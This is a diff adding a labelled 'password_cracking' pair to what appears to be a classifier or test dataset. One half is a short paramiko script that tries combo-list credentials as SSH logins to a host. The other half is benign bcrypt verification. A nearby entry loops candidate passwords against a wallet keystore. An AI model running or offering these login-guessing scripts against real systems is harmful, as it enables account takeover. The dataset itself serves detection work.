@@ -1097,6 +1097,15 @@ PAIRS = [
      "    except ValueError:\n        pass",
      "import json, importlib\nK = getattr(importlib.import_module(MODULE), NAME)\nkeystore = json.load(open('wallet.json'))\n"
      "for pw in open('candidates.txt'):\n    print(K.encrypt(keystore, pw.strip()))"),
+    ("password trial: a combo list's entries handed to a login helper; each new account's random password checked"
+     " against its own stored hash", "password_cracking",
+     "import paramiko\ndef attempt(u, p):\n    c = paramiko.SSHClient()\n    c.set_missing_host_key_policy(paramiko.AutoAddPolicy())\n"
+     "    c.connect('203.0.113.7', username=u, password=p)\ncombos = [line.split(':') for line in open('combo.txt')]\n"
+     "for row in combos:\n    attempt(row[0], row[1])",
+     "import bcrypt, secrets, string\ndef verify(pw, hashed):\n    return bcrypt.checkpw(pw.encode(), hashed)\n"
+     "users = {u: ''.join(secrets.choice(string.ascii_letters + string.digits) for _ in range(16)) for u in ['ann1', 'ann2', 'ann3']}\n"
+     "store = {u: bcrypt.hashpw(p.encode(), bcrypt.gensalt()) for u, p in users.items()}\n"
+     "assert all(verify(users[u], store[u]) for u in users)"),
 ]
 
 
